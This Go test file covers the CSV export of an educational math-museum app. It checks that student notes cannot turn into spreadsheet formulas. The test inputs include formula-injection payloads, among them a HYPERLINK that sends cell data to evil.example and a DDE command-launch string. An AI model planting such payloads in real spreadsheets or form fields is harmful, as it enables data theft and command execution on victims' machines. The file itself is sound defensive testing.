package transfer_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/mathmuseums/mathmuseums/app"
	"github.com/mathmuseums/mathmuseums/app/apptest"
	"github.com/mathmuseums/mathmuseums/app/store"
	"github.com/mathmuseums/mathmuseums/app/transfer"
)

// readTable exports as CSV and reads it as a spreadsheet would: a map from column to cell for each row.
func readTable(t *testing.T, museum *store.Store) []map[string]string {
	t.Helper()
	var text bytes.Buffer
	if err := museum.Read(t.Context(), func(s *store.Snapshot) error { return transfer.WriteCSV(&text, s, 0) }); err != nil {
		t.Fatal(err)
	}
	without, found := bytes.CutPrefix(text.Bytes(), []byte("\ufeff"))
	if !found {
		t.Error("Excel would not know that it is UTF-8")
	}
	records, err := csv.NewReader(bytes.NewReader(without)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var table []map[string]string
	for _, record := range records[1:] {
		row := map[string]string{}
		for i, cell := range record {
			row[records[0][i]] = cell
		}
		table = append(table, row)
	}
	return table
}

func TestATableHasARowForEachStudent(t *testing.T) {
	museum := apptest.NewMuseum(t)
	ann := museum.NewMember(t, "Ann@example.com")
	museum.NewMember(t, "bob@example.com")
	ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": "linear", "description": "a \"steep\" one,\nÄ 数学", "completed": true})
	ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": "cubic"})
	gone := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": "piecewise", "description": "gone"}).Object(t)
	ann.Send("DELETE", "/api/tiles/"+idText(gone)+"/", nil)

	table := readTable(t, museum.Store)
	if len(table) != 2 || table[0]["email"] != "Ann@example.com" || table[1]["email"] != "bob@example.com" {
		t.Fatalf("the rows are %v", table)
	}
	for column, want := range map[string]string{"begun": "1", "completed": "1", "linear": "completed", "cubic": "begun", "quadratic": "",
		"piecewise": "", "linear notes": "a \"steep\" one,\nÄ 数学", "piecewise notes": ""} {
		if got, there := table[0][column]; got != want || !there {
			t.Errorf("%s is %q, want %q", column, got, want)
		}
	}
	if len(table[0]) != 8+2*len(app.FamilyTypes()) || table[1]["begun"] != "0" || table[1]["last change (UTC)"] != "" {
		t.Errorf("the table is %v", table)
	}
}

// TestATableHoldsNoFormulas checks that opening a class list executes nothing that a student wrote.
func TestATableHoldsNoFormulas(t *testing.T) {
	museum := apptest.NewMuseum(t)
	ann := museum.NewMember(t, "ann@example.com")
	texts := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "=cmd|' /C calc'!A0", "|x", "%x", "harmless - and = within", "'quoted", "y=x", "−2"}
	for i, text := range texts {
		answer := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": app.FamilyTypes()[i], "description": text})
		if answer.Status != 201 {
			t.Fatalf("%q: %s", text, answer.Body)
		}
	}
	museum.Exec(t, "update users set display_name = char(9) || '=1'") // older data may begin with what is trimmed today
	museum.Exec(t, "update tiles set description = '  =1+1' where concept_type = 'linear'")
	row := readTable(t, museum.Store)[0]
	texts[0] = "  =1+1"
	for i, text := range texts {
		got, want := row[app.FamilyTypes()[i]+" notes"], text
		if !slices.Contains([]string{"harmless - and = within", "'quoted", "y=x", "−2"}, text) {
			want = "'" + text
		}
		if got != want {
			t.Errorf("%q is %q in the table", text, got)
		}
	}
	if row["name"] != "'\t'=1" {
		t.Errorf("the name is %q", row["name"])
	}
}

func TestATableCutsWhatNoCellHolds(t *testing.T) {
	museum := apptest.NewMuseum(t)
	ann := museum.NewMember(t, "ann@example.com")
	ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": "linear", "description": "x" + strings.Repeat("数", 20_000)})
	notes := readTable(t, museum.Store)[0]["linear notes"]
	if len(notes) > 32_010 || !strings.HasSuffix(notes, "数 [...]") || !utf8.ValidString(notes) {
		t.Errorf("notes of %d bytes end with %q", len(notes), notes[max(0, len(notes)-20):])
	}
}

// TestATableHoldsNoFormulasForOtherSeparators splits the table like a spreadsheet that expects semicolons or tabs and
// takes anything after the first closing quote of a cell literally, including line breaks.
func TestATableHoldsNoFormulasForOtherSeparators(t *testing.T) {
	museum := apptest.NewMuseum(t)
	ann := museum.NewMember(t, "ann@example.com")
	for i, text := range []string{"a;=HYPERLINK(1)", "a; \u00a0+1", "a\t=1", "one\n=2\n- three", "a;;@x", "b;\"=4", "x;%y;|z", "(3, -2)"} {
		answer := ann.Send("POST", "/api/tiles/", map[string]any{"concept_type": app.FamilyTypes()[i], "description": text})
		if answer.Status != 201 {
			t.Fatalf("%q: %s", text, answer.Body)
		}
	}
	var text bytes.Buffer
	if err := museum.Store.Read(t.Context(), func(s *store.Snapshot) error { return transfer.WriteCSV(&text, s, 0) }); err != nil {
		t.Fatal(err)
	}
	for cell := range strings.FieldsFuncSeq(text.String(), func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		if first := strings.TrimLeft(cell, " \u00a0\""); first != "" && strings.ContainsAny(first[:1], "=+-@|%") {
			t.Errorf("a cell is %q", cell)
		}
	}
	if row := readTable(t, museum.Store)[0]; row[app.FamilyTypes()[7]+" notes"] != "(3, -2)" || row[app.FamilyTypes()[3]+" notes"] != "one\n'=2\n'- three" {
		t.Errorf("the notes are %q", row)
	}
}
